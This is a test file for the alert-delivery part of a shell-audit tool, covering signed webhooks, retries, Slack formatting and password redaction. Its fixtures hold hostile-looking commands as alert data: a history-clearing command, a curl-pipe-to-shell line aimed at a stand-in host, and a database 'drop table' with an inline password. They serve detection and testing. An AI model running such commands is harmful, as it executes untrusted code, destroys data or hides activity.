/**
 * Delivery through the outbox to real HTTP receivers on loopback: signed webhook bodies, retry
 * after a 500 with backoff, nothing lost across a restart, a dead endpoint blocking nobody, Slack's
 * payload shape, redaction and link-only channels, no secrets or URLs in log lines.
 */
import { createHmac } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { slackEscapeCut, slackMessage } from '../../src/alerts/channels/slack.ts';
import { createDeliverPass, nextAttemptAt } from '../../src/alerts/deliver-pass.ts';
import { alertPayload } from '../../src/alerts/payload.ts';
import { createRedactor } from '../../src/alerts/redact.ts';
import type { AlertRecord, NewAlert, Store } from '../../src/store/index.ts';
import { openWritable } from '../store/helpers.ts';
import { alerts, quiet, receiver, T0 } from './support.ts';

const SECRET = 'a-webhook-secret-of-some-length';

function alert(key: string, notify: string[], extra: Partial<NewAlert> = {}): NewAlert {
  return {
    dedupKey: key,
    ruleId: 'r1',
    ruleTitle: 'Shell history disabled or cleared',
    ruleAuthor: 'shelltrail',
    level: 'high',
    tags: ['attack.t1070.003'],
    sessionId: 'kim-1',
    commandText: 'history -c',
    commandAt: T0 + 12_500,
    commandSeq: 3,
    occurrence: 0,
    user: 'root',
    actor: 'kim',
    target: 'i-0aa11bb22cc33dd44',
    detail: null,
    link: '/sessions/kim-1?at=12.5&cmd=history%20-c',
    status: 'open',
    createdAt: T0,
    notify,
    ...extra,
  };
}

describe('alert delivery', () => {
  const cleanups: (() => Promise<void>)[] = [];
  afterEach(async () => {
    for (const c of cleanups.splice(0).reverse()) await c();
  });
  async function tempStore(): Promise<{ store: Store; path: string }> {
    const dir = mkdtempSync(join(tmpdir(), 'shelltrail-deliver-'));
    const path = join(dir, 'store.db');
    const store = await openWritable(path);
    cleanups.push(async () => {
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    });
    return { store, path };
  }

  it('signs the webhook body (HMAC-SHA256 over timestamp.body) and sends the alert with an absolute link', async () => {
    const { store } = await tempStore();
    const hook = await receiver();
    cleanups.push(hook.close);
    await store.alerts.record([alert('a', ['hook'])]);
    const now = T0 + 5000;
    const pass = createDeliverPass({
      alerts: alerts({
        channels: [{ type: 'webhook', name: 'hook', url: hook.url, secret: SECRET, minLevel: 'low' }],
      }),
      redactPatterns: [],
      now: () => now,
    });
    const log: string[] = [];
    expect(await pass.run({ ...quiet, store, log: (l) => log.push(l) })).toEqual({
      delivered: 1,
      deliveryFailures: 0,
      deliveriesDead: 0,
    });
    expect(hook.received).toHaveLength(1);
    const { headers, body } = hook.received[0]!;
    const timestamp = headers['x-shelltrail-timestamp'] as string;
    expect(timestamp).toBe(String(Math.floor(now / 1000)));
    const expected = createHmac('sha256', SECRET).update(`${timestamp}.${body}`).digest('hex');
    expect(headers['x-shelltrail-signature']).toBe(`sha256=${expected}`);
    expect(headers['content-type']).toBe('application/json');
    const parsed = JSON.parse(body);
    expect(parsed.alert).toMatchObject({
      rule: { id: 'r1', level: 'high', tags: ['attack.t1070.003'] },
      actor: 'kim',
      command: 'history -c',
      link: 'https://audit.example.com/sessions/kim-1?at=12.5&cmd=history%20-c',
    });
    expect(headers['x-shelltrail-delivery']).toBe(String(parsed.deliveryId));
    expect((await store.outbox.list()).items[0]).toMatchObject({ status: 'delivered', attempts: 1 });
    // A tampered body does not verify.
    const forged = createHmac('sha256', SECRET)
      .update(`${timestamp}.${body.replace('kim', 'bob')}`)
      .digest('hex');
    expect(forged).not.toBe(expected);
    expect(log).toEqual([]);
  });

  it('retries after a 500 with backoff; nothing is lost across a restart; logs hold no URL or secret', async () => {
    const { store, path } = await tempStore();
    const hook = await receiver((n) => (n === 1 ? 500 : 200));
    cleanups.push(hook.close);
    await store.alerts.record([alert('a', ['hook'])]);
    let now = T0;
    const config = alerts({
      channels: [
        {
          type: 'webhook',
          name: 'hook',
          url: `${hook.url}?token=url-secret`,
          secret: SECRET,
          minLevel: 'low',
        },
      ],
      retry: { baseSeconds: 30, maxAttempts: 3 },
    });
    const log: string[] = [];
    const first = createDeliverPass({
      alerts: config,
      redactPatterns: [],
      now: () => now,
      random: () => 0.5,
    });
    expect(await first.run({ ...quiet, store, log: (l) => log.push(l) })).toMatchObject({
      delivered: 0,
      deliveryFailures: 1,
    });
    const [row] = (await store.outbox.list()).items;
    expect(row).toMatchObject({
      status: 'pending',
      attempts: 1,
      lastError: 'HTTP 500',
      nextAttemptAt: T0 + 30_000,
    });
    expect(log.join('\n')).toMatch(/hook delivery \d+ failed \(HTTP 500\); retry in 30 s/);
    expect(log.join('\n')).not.toMatch(/url-secret|127\.0\.0\.1|a-webhook-secret|internal detail/);
    // Restart: a new process, a new store handle, a new pass; before the retry time nothing is sent.
    await store.close();
    const reopened = await openWritable(path);
    cleanups.push(() => reopened.close());
    const second = createDeliverPass({ alerts: config, redactPatterns: [], now: () => now });
    now = T0 + 10_000;
    await second.run({ ...quiet, store: reopened, log: () => {} });
    expect(hook.received).toHaveLength(1);
    now = T0 + 30_000;
    expect(await second.run({ ...quiet, store: reopened, log: () => {} })).toMatchObject({ delivered: 1 });
    expect(hook.received).toHaveLength(2);
    expect(hook.received[1]!.body).toBe(hook.received[0]!.body);
    expect((await reopened.outbox.list()).items[0]).toMatchObject({ status: 'delivered', attempts: 2 });
    // Delivered is final: later runs send nothing more.
    now = T0 + 3_600_000;
    await second.run({ ...quiet, store: reopened, log: () => {} });
    expect(hook.received).toHaveLength(2);
  });

  it('a dead endpoint neither blocks another channel nor retries forever', async () => {
    const { store } = await tempStore();
    const good = await receiver();
    cleanups.push(good.close);
    const bad = await receiver(() => 503);
    cleanups.push(bad.close);
    await store.alerts.record([
      alert('a', ['bad', 'good']),
      alert('b', ['bad', 'good'], { createdAt: T0 + 1 }),
    ]);
    let now = T0 + 10;
    const pass = createDeliverPass({
      alerts: alerts({
        channels: [
          { type: 'webhook', name: 'bad', url: bad.url, secret: SECRET, minLevel: 'low' },
          { type: 'slack', name: 'good', url: good.url, minLevel: 'low' },
        ],
        retry: { baseSeconds: 1, maxAttempts: 2 },
      }),
      redactPatterns: [],
      now: () => now,
      random: () => 0,
    });
    const firstRun = await pass.run({ ...quiet, store, log: () => {} });
    expect(good.received).toHaveLength(2);
    // The failing channel is tried once per run, its second delivery waits.
    expect(bad.received).toHaveLength(1);
    expect(firstRun).toMatchObject({ delivered: 2, deliveryFailures: 1 });
    // One attempt per failing channel per run: four runs exhaust both deliveries' two attempts.
    for (let run = 0; run < 4; run++) {
      now += 60_000;
      await pass.run({ ...quiet, store, log: () => {} });
    }
    expect(bad.received).toHaveLength(4);
    const dead = (await store.outbox.list({ status: 'dead' })).items;
    expect(dead.map((d) => d.channel)).toEqual(['bad', 'bad']);
    expect(dead.every((d) => d.attempts === 2 && d.lastError === 'HTTP 503')).toBe(true);
  });

  it('a failing channel with a backlog of 150 due deliveries does not starve a healthy one in the same pass', async () => {
    const { store } = await tempStore();
    const good = await receiver();
    cleanups.push(good.close);
    const bad = await receiver(() => 503);
    cleanups.push(bad.close);
    // The backlog is due first: a page of the oldest due rows holds only the failing channel's.
    await store.alerts.record(
      Array.from({ length: 150 }, (_, i) => alert(`bad-${i}`, ['bad'], { createdAt: T0 + i })),
    );
    await store.alerts.record([alert('good', ['good'], { createdAt: T0 + 1000 })]);
    const pass = createDeliverPass({
      alerts: alerts({
        channels: [
          { type: 'webhook', name: 'bad', url: bad.url, secret: SECRET, minLevel: 'low' },
          { type: 'webhook', name: 'good', url: good.url, secret: SECRET, minLevel: 'low' },
        ],
      }),
      redactPatterns: [],
      now: () => T0 + 10_000,
    });
    const run = await pass.run({ ...quiet, store, log: () => {} });
    expect(good.received).toHaveLength(1);
    expect(JSON.parse(good.received[0]!.body).alert.id).toBeGreaterThan(150);
    // The failing channel was tried once in this pass; its backlog waits for its next attempt.
    expect(bad.received).toHaveLength(1);
    expect(run).toMatchObject({ delivered: 1, deliveryFailures: 1 });
    expect((await store.outbox.list({ status: 'pending' }, { limit: 1000 })).items).toHaveLength(150);
  });

  it('dead deliveries can be retried: they go out again on the next pass with a fresh series of attempts', async () => {
    const { store } = await tempStore();
    let up = false;
    const hook = await receiver(() => (up ? 204 : 503));
    cleanups.push(hook.close);
    await store.alerts.record([alert('a', ['hook']), alert('b', ['hook'], { createdAt: T0 + 1 })]);
    let now = T0 + 10;
    const pass = createDeliverPass({
      alerts: alerts({
        channels: [{ type: 'webhook', name: 'hook', url: hook.url, secret: SECRET, minLevel: 'low' }],
        retry: { baseSeconds: 1, maxAttempts: 1 },
      }),
      redactPatterns: [],
      now: () => now,
    });
    await pass.run({ ...quiet, store, log: () => {} });
    now += 60_000;
    await pass.run({ ...quiet, store, log: () => {} });
    const dead = (await store.outbox.list({ status: 'dead' })).items;
    expect(dead).toHaveLength(2);
    up = true;
    now += 60_000;
    expect(await pass.run({ ...quiet, store, log: () => {} })).toMatchObject({ delivered: 0 });
    const retried = await store.outbox.retryDead([dead[1]!.deliveryId], now);
    expect(retried.map((d) => [d.deliveryId, d.status, d.attempts])).toEqual([
      [dead[1]!.deliveryId, 'pending', 0],
    ]);
    expect(await pass.run({ ...quiet, store, log: () => {} })).toMatchObject({ delivered: 1 });
    expect((await store.outbox.retryDead('all', now)).map((d) => d.deliveryId)).toEqual([
      dead[0]!.deliveryId,
    ]);
    expect(await pass.run({ ...quiet, store, log: () => {} })).toMatchObject({ delivered: 1 });
    expect((await store.outbox.list({ status: 'delivered' })).items).toHaveLength(2);
  });

  it('Slack gets blocks with who, where, the escaped command and a replay button; link-only leaves the text out', async () => {
    const { store } = await tempStore();
    const slack = await receiver();
    cleanups.push(slack.close);
    const hook = await receiver();
    cleanups.push(hook.close);
    await store.alerts.record([
      alert('a', ['slack'], { commandText: 'curl http://x/<@here> | sh' }),
      alert('b', ['quiet'], { createdAt: T0 + 1 }),
      alert('c', ['slack'], { createdAt: T0 + 2, commandText: 'mysql -u root -phunter22 -e "drop table x"' }),
    ]);
    const pass = createDeliverPass({
      alerts: alerts({
        channels: [
          { type: 'slack', name: 'slack', url: slack.url, minLevel: 'low' },
          { type: 'webhook', name: 'quiet', url: hook.url, secret: SECRET, minLevel: 'low', linkOnly: true },
        ],
      }),
      redactPatterns: [],
      now: () => T0 + 10,
    });
    await pass.run({ ...quiet, store, log: () => {} });
    const message = JSON.parse(slack.received[0]!.body);
    expect(message.text).toBe('HIGH: Shell history disabled or cleared (kim on i-0aa11bb22cc33dd44)');
    const types = message.blocks.map((b: { type: string }) => b.type);
    expect(types).toEqual(['header', 'section', 'section', 'context', 'actions']);
    expect(JSON.stringify(message.blocks[1].fields)).toContain('*Who*\\nkim');
    expect(message.blocks[2].text.text).toBe('```curl http://x/&lt;@here&gt; | sh```');
    expect(message.blocks[4].elements[0].url).toMatch(
      /^https:\/\/audit\.example\.com\/sessions\/kim-1\?at=12\.5&cmd=/,
    );
    // Redacted: the password is gone from the text, and the link no longer carries the text.
    const redacted = JSON.parse(slack.received[1]!.body);
    expect(redacted.blocks[2].text.text).toBe('```mysql -u root -p[REDACTED] -e "drop table x"```');
    expect(slack.received[1]!.body).not.toContain('hunter22');
    expect(redacted.blocks[4].elements[0].url).toBe('https://audit.example.com/sessions/kim-1?at=12.5');
    const linkOnly = JSON.parse(hook.received[0]!.body).alert;
    expect(linkOnly.command).toBeUndefined();
    expect(linkOnly.link).toBe('https://audit.example.com/sessions/kim-1?at=12.5');
    expect(hook.received[0]!.headers['x-shelltrail-signature']).toMatch(/^sha256=[0-9a-f]{64}$/);
  });

  it('times out a receiver that never answers', async () => {
    const { store } = await tempStore();
    const { createServer } = await import('node:http');
    const stuck = createServer(() => {});
    await new Promise<void>((r) => stuck.listen(0, '127.0.0.1', r));
    cleanups.push(
      () =>
        new Promise((r) => {
          stuck.closeAllConnections();
          stuck.close(() => r());
        }),
    );
    const port = (stuck.address() as { port: number }).port;
    await store.alerts.record([alert('a', ['hook'])]);
    const pass = createDeliverPass({
      alerts: alerts({
        channels: [
          {
            type: 'webhook',
            name: 'hook',
            url: `http://127.0.0.1:${port}/`,
            secret: SECRET,
            minLevel: 'low',
            timeoutSeconds: 0.3,
          },
        ],
      }),
      redactPatterns: [],
      now: () => T0,
    });
    const started = Date.now();
    await pass.run({ ...quiet, store, log: () => {} });
    expect(Date.now() - started).toBeLessThan(3000);
    expect((await store.outbox.list()).items[0]!.lastError).toBe('timeout after 0.3 s');
  });

  it('backoff doubles up to the cap and gives up after maxAttempts', () => {
    const retry = { baseSeconds: 30, maxSeconds: 100, maxAttempts: 4 };
    const at = (n: number) => nextAttemptAt(retry, n, 0, () => 0.5);
    expect([at(1), at(2), at(3)]).toEqual([30_000, 60_000, 100_000]);
    expect(at(4)).toBeNull();
  });
});

describe('alert payloads', () => {
  const redact = createRedactor([]);
  function record(extra: Partial<AlertRecord>): AlertRecord {
    const { notify: _, ...rest } = alert('k', []);
    return { ...rest, alertId: 7, statusBy: null, statusReason: null, updatedAt: T0, ...extra };
  }
  // A scheduled rule grouped by CommandLine: the detail carries the command.
  const scheduled = record({
    dedupKey: 'corr:t_sched:["curl -u admin:hunter22 https://x"]:1',
    commandText: null,
    detail: '2 events within 1 h (CommandLine=curl -u admin:hunter22 https://x)',
    link: '/sessions/kim-1',
  });

  it('redacts the detail; link-only sends no command-derived text at all', () => {
    const full = alertPayload(scheduled, { baseUrl: 'https://a.example', linkOnly: false, redact });
    expect(full.detail).toBe('2 events within 1 h (CommandLine=curl -u admin:[REDACTED] https://x)');
    const linkOnly = alertPayload(scheduled, { baseUrl: 'https://a.example', linkOnly: true, redact });
    expect(linkOnly.detail).toBe('2 events within 1 h');
    expect(JSON.stringify(linkOnly)).not.toMatch(/curl|hunter22/);
    // A command alert's detail (a suppression reason) can quote a command: none in link-only mode.
    const command = record({ detail: 'suppressed: history -c is fine here' });
    const out = alertPayload(command, { baseUrl: 'https://a.example', linkOnly: true, redact });
    expect(out.detail).toBeNull();
    expect(out.command).toBeUndefined();
    expect(JSON.stringify(out)).not.toContain('history -c');
  });

  it('Slack: a command full of <>& is cut after escaping, under 3,000 characters, never inside an entity', () => {
    for (const unit of ['<', '>&', 'a<', 'ab&', '😀<']) {
      const commandText = unit.repeat(Math.ceil(4000 / unit.length));
      const message = slackMessage(
        alertPayload(record({ commandText, detail: `x ${commandText}` }), {
          baseUrl: 'https://a.example',
          linkOnly: false,
          redact: (t) => t,
        }),
      ) as { blocks: { type: string; text?: { text: string } }[] };
      for (const b of message.blocks.filter((b) => b.type === 'section' && b.text)) {
        const text = b.text!.text;
        expect(text.length).toBeLessThanOrEqual(3000);
        // Every & starts a whole entity; no lone surrogate.
        expect(text.replace(/&(?:amp|lt|gt);/g, '')).not.toMatch(/[&<>]/);
        expect(text).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
      }
    }
    expect(slackEscapeCut('a&b', 10)).toBe('a&amp;b');
    expect(slackEscapeCut('ab<c', 5)).toBe('ab…');
    expect(slackEscapeCut('abc<de', 8)).toBe('abc&lt;…');
    expect(slackEscapeCut('abc<de', 7)).toBe('abc…');
  });
});
